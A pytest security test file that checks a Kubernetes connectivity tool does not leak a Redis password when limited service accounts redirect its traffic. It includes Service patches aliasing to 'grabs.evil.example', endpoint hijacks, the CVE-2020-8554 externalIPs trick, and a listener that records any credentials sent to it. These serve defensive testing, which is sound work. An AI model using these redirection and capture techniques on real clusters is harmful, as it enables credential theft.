"""Editors of Services and of slices, each with nothing but their own rights, against a run of CI.

Somebody listens where they lead, and writes down all that arrives: never the password.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.lab.cluster import dns
from tests.lab.hosts import FAR
from tests.lab.hosts import REDIS as REDIS_HOST
from tests.lab.lab import Lab
from tests.support import cluster
from tests.support.cluster import REDIS, deploy, doctor, secret_of, service_account, with_token

pytestmark = pytest.mark.lab

SERVICE, PORT = REDIS[0], REDIS[3]
EVIL = "grabs.evil.example"
# As a Redis that wants a password and takes any; says all it hears, so that its output can be read.
LISTENS = """
import socket, sys, threading
server = socket.create_server(("", int(sys.argv[1])))
print("ready", flush=True)
def one(connection):
    try:
        while data := connection.recv(65536):
            print("HEARD", data, flush=True)
            connection.sendall(b"-NOAUTH no\\r\\n" if b"PING" in data else b"+OK\\r\\n")
    except OSError:
        pass
while True:
    threading.Thread(target=one, args=(server.accept()[0],), daemon=True).start()
"""
MAY = {
    "service-editor": [("", "services")],
    "slice-editor": [("discovery.k8s.io", "endpointslices")],
    "endpoints-editor": [("", "endpoints")],
}
VANTAGES = ("pod", "relay")


@contextmanager
def listener(lab: Lab) -> Generator[list[str]]:
    """What arrives at a host of the attacker's: one text, once the block has ended."""
    heard: list[str] = []
    process = lab.popen([sys.executable, "-c", LISTENS, str(PORT)], host=FAR.name)
    assert process.stdout
    assert process.stdout.readline() == "ready\n"
    try:
        yield heard
    finally:
        process.terminate()
        heard.append(process.communicate(timeout=10)[0])


def editors(lab: Lab, namespace: str) -> None:
    """Accounts with the right to change one kind of object, and those of the stock roles."""
    made: list[dict[str, Any]] = []
    for name, kinds in MAY.items():
        verbs = ["get", "list", "create", "update", "patch", "delete"]
        rules = [{"apiGroups": [g], "resources": [r], "verbs": verbs} for g, r in kinds]
        role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                "metadata": {"name": name}, "rules": rules}  # fmt: skip
        made += [role, binding(namespace, name, "Role")]
    made += [binding(namespace, name, "ClusterRole") for name in ("view", "edit")]
    lab.apply(made, namespace=namespace)


def binding(namespace: str, name: str, kind: str) -> dict[str, Any]:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": name},
        "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": namespace}],
    }


def act(lab: Lab, namespace: str, who: str, *args: str) -> subprocess.CompletedProcess[str]:
    """kubectl as that account, which the API server judges by its own rights."""
    account = f"--as=system:serviceaccount:{namespace}:{who}"
    return lab.run(["kubectl", account, "-n", namespace, *args])


def patched(lab: Lab, namespace: str, who: str, kind: str, patch: dict[str, Any]) -> None:
    name = f"{SERVICE}-1" if kind == "endpointslice" else SERVICE
    text = json.dumps(patch)
    done = act(lab, namespace, who, "patch", kind, name, "--type=merge", "-p", text)
    assert done.returncode == 0, done.stderr
    time.sleep(2)  # controllers follow


def owner(lab: Lab, namespace: str, **more: str) -> str:
    """The owner's Secret; returns the password."""
    word = lab.passwords["redis"]
    values = {"password": word, "admin-word": f"admin-{word}", "k8sext.service": SERVICE, **more}
    lab.apply([secret_of("redis-auth", **values)], namespace=namespace)
    return word


def looked(lab: Lab, namespace: str, vantage: str, tmp_path: Path) -> cluster.Run:
    """Doctor as a CI account; from relay with Secrets that it may read."""
    extra = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
              "resourceNames": ["redis-auth"]}]  # fmt: skip
    purpose = "relay" if vantage == "relay" else "doctor"
    token = service_account(lab, namespace, purpose=purpose, more=extra)
    config = with_token(lab, tmp_path / "ci", token, namespace)
    more = ("--from", "relay", "--credentials", "cluster") if vantage == "relay" else ()
    return doctor(lab, namespace, "--kubeconfig", config, *more)


def to_far() -> list[dict[str, Any]]:
    return [{"addresses": [FAR.address]}]


SERVICE_EDITS: dict[str, dict[str, Any]] = {
    "alias": {"spec": {"type": "ExternalName", "externalName": EVIL}},
    "alias-and-weaker": {
        "metadata": {"annotations": {"k8sext.io/tls": "disable",
                                     "k8sext.io/credentials-keys": "password=admin-word"}},
        "spec": {"type": "ExternalName", "externalName": EVIL},
    },
    "another-key": {
        "metadata": {"annotations": {"k8sext.io/credentials-keys": "password=admin-word"}}
    },
}  # fmt: skip
CODES = {"alias": "KX619", "alias-and-weaker": "KX619", "another-key": "KX622"}


@pytest.mark.parametrize("vantage", VANTAGES)
@pytest.mark.parametrize("edit", SERVICE_EDITS)
@pytest.mark.parametrize("who", ["service-editor", "edit"])
def test_whoever_may_edit_services_gets_no_secret(
    lab: Lab, namespace: str, who: str, edit: str, vantage: str, tmp_path: Path
) -> None:
    deploy(lab, namespace, [REDIS])
    word = owner(lab, namespace)
    editors(lab, namespace)
    if who == "service-editor":
        assert act(lab, namespace, who, "get", "secret", "redis-auth").returncode != 0
    with dns.name_set_to(lab.place, EVIL, FAR.address), listener(lab) as heard:
        patched(lab, namespace, who, "service", SERVICE_EDITS[edit])
        ran = looked(lab, namespace, vantage, tmp_path)
    assert word not in heard[0]
    assert word not in ran.out + ran.err
    assert CODES[edit] in [code for code, _ in ran.said(SERVICE)], ran
    if "alias" in edit:
        assert "HEARD" in heard[0], "nobody was led there: the test proves nothing"


def their_pod(lab: Lab, namespace: str) -> None:
    """It is there for another reason, as in any namespace that is shared."""
    container = {"name": "theirs", "image": lab.probe_image,
                 "command": ["python3", "-c", LISTENS, str(PORT)]}  # fmt: skip
    meta = {"name": "theirs", "labels": {"app": "theirs"}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": {"containers": [container]}}
    lab.apply([pod], namespace=namespace)
    lab.kubectl("wait", "-n", namespace, "pod/theirs", "--for=condition=Ready", "--timeout=60s")


@pytest.mark.parametrize("vantage", VANTAGES)
def test_a_service_before_the_server_gets_no_secret(
    lab: Lab, namespace: str, vantage: str, tmp_path: Path
) -> None:
    """Its own address, taken by externalIPs: every node leads there (CVE-2020-8554)."""
    deploy(lab, namespace, [REDIS])
    word = owner(lab, namespace)
    editors(lab, namespace)
    their_pod(lab, namespace)
    spec = {"selector": {"app": "theirs"}, "externalIPs": [REDIS[2]], "ports": [{"port": PORT}]}
    made = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "theirs"}, "spec": spec}
    done = lab.run(["kubectl", f"--as=system:serviceaccount:{namespace}:service-editor", "-n",
                    namespace, "create", "-f", "-"], input=json.dumps(made))  # fmt: skip
    assert done.returncode == 0, done.stderr
    try:
        time.sleep(2)
        ran = looked(lab, namespace, vantage, tmp_path)
        heard = lab.kubectl("logs", "-n", namespace, "theirs")
    finally:  # every other test has this server: no node may lead elsewhere any more
        lab.kubectl("delete", "service", "theirs", "-n", namespace, "--wait")
    assert "HEARD" in heard, "nobody was led there: the test proves nothing"
    assert "KX619" in [code for code, _ in ran.said(SERVICE)], ran
    assert word not in heard + ran.out + ran.err


@pytest.mark.parametrize("vantage", VANTAGES)
@pytest.mark.parametrize("stays", [True, False], ids=["selector", "selector-for-a-while"])
def test_pods_of_a_selector_get_no_secret(
    lab: Lab, namespace: str, stays: bool, vantage: str, tmp_path: Path
) -> None:
    deploy(lab, namespace, [REDIS])
    word = owner(lab, namespace)
    editors(lab, namespace)
    their_pod(lab, namespace)
    patched(lab, namespace, "service-editor", "service", {"spec": {"selector": {"app": "theirs"}}})
    if not stays:
        patched(lab, namespace, "service-editor", "service", {"spec": {"selector": None}})
    slices = lab.get("endpointslices", "-n", namespace)["items"]
    assert len(slices) > 1, "the selector left nothing: the test proves nothing"
    ran = looked(lab, namespace, vantage, tmp_path)
    heard = lab.kubectl("logs", "-n", namespace, "theirs")
    assert "HEARD" in heard, "nobody was led there: the test proves nothing"
    assert word not in heard + ran.out + ran.err
    assert "KX619" in [code for code, _ in ran.said(SERVICE)], ran


@pytest.mark.parametrize("vantage", VANTAGES)
@pytest.mark.parametrize(
    "says",
    [{"host": REDIS_HOST.address}, {"k8sext.tls": "require"}, {"k8sext.tls": "verify-full"}],
    ids=["host", "require", "verify-full"],
)
@pytest.mark.parametrize("who", ["slice-editor", "endpoints-editor"])
def test_whoever_may_edit_slices_gets_no_pinned_secret(
    lab: Lab, namespace: str, who: str, says: dict[str, str], vantage: str, tmp_path: Path
) -> None:
    endpoints = who == "endpoints-editor"
    deploy(lab, namespace, [REDIS])
    lab.kubectl("annotate", "service", "-n", namespace, SERVICE, "k8sext.io/tls-")
    if endpoints:
        lab.kubectl("delete", "endpointslice", "-n", namespace, f"{SERVICE}-1")
        ports = [{"name": REDIS[1], "port": PORT}]
        lab.apply([{"apiVersion": "v1", "kind": "Endpoints", "metadata": {"name": SERVICE},
                    "subsets": [{"addresses": [{"ip": REDIS[2]}], "ports": ports}]}],
                  namespace=namespace)  # fmt: skip
        patch: dict[str, Any] = {"subsets": [{"addresses": [{"ip": FAR.address}], "ports": ports}]}
    else:
        patch = {"endpoints": to_far()}
    word = owner(lab, namespace, **says)
    editors(lab, namespace)
    with listener(lab) as heard:
        patched(lab, namespace, who, "endpoints" if endpoints else "endpointslice", patch)
        ran = looked(lab, namespace, vantage, tmp_path)
    assert "HEARD" in heard[0], "nobody was led there: the test proves nothing"
    assert word not in heard[0] + ran.out + ran.err


def test_who_may_only_look_changes_nothing(lab: Lab, namespace: str) -> None:
    """The stock role `view`, and what `edit` may not write on its own."""
    deploy(lab, namespace, [REDIS])
    editors(lab, namespace)
    text = json.dumps(SERVICE_EDITS["alias"])
    patch = ("patch", "service", SERVICE, "--type=merge", "-p", text)
    assert act(lab, namespace, "view", *patch).returncode != 0
    for who, kind in (("view", "secrets"), ("slice-editor", "secrets"), ("slice-editor", "jobs")):
        assert act(lab, namespace, who, "get", kind).returncode != 0


@pytest.mark.parametrize("vantage", VANTAGES)
def test_a_file_says_where_to_and_the_live_service_does_not(
    lab: Lab, namespace: str, vantage: str, tmp_path: Path
) -> None:
    deploy(lab, namespace, [REDIS])
    word = owner(lab, namespace)
    editors(lab, namespace)
    file = tmp_path / "bridges.yaml"
    file.write_text(json.dumps({
        "apiVersion": "k8sext.io/v1", "kind": "Bridges",
        "bridges": [{
            "name": SERVICE, "namespace": namespace, "protocol": "redis", "to": [REDIS[2]],
            "ports": [{"name": "redis", "port": PORT}], "credentials": {"secret": "redis-auth"},
            "tls": {"mode": "disable"},
        }],
    }))  # fmt: skip
    more = ("--from", "relay", "--credentials", "cluster") if vantage == "relay" else ()
    with listener(lab) as heard:
        patched(lab, namespace, "slice-editor", "endpointslice", {"endpoints": to_far()})
        ran = doctor(lab, namespace, "-f", str(file), *more)
    assert word not in heard[0] + ran.out + ran.err
    assert ran.code == 1
    assert "KX621" in [code for code, _ in ran.said(SERVICE)], ran
    seen = ran.bridge(SERVICE)["observations"]
    (own,) = [o for o in seen if o["route"] == "endpoint" and not o.get("client")]
    assert own["target"] == f"{REDIS[2]}:{PORT}"
    assert {s["stage"]: s["status"] for s in own["stages"]}["auth"] in ("pass", "warn")
